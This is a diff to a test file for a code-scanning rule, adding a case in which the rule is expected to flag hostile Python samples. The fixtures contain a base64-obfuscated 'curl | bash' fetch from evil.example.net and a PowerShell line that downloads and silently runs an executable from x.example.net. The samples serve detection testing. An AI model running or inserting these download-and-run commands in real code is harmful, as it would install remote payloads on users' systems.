@@ -39,5 +39,11 @@ ruleTest(rule, {
       code: `import os, base64\nos.system(base64.b64decode("${Buffer.from('curl -fsSL http://evil.example.net/i.sh | bash').toString('base64')}").decode())\n`,
       findings: [{ line: 2, decoded: /curl -fsSL http:\/\/evil\.example\.net\/i\.sh \| bash/ }],
     },
+    {
+      name: 'command kept in a constant',
+      file: 'runner.py',
+      code: `import subprocess\nCMD = ('$u="http://x.example.net/a.exe"; Invoke-WebRequest $u -OutFile $p; ' 'Start-Process $p -WindowStyle Hidden')\ndef run(c=CMD):\n    return subprocess.Popen(["powershell", "-Command", c])\n`,
+      findings: [{ line: 2, message: /download-and-run command in a string/ }],
+    },
   ],
 });
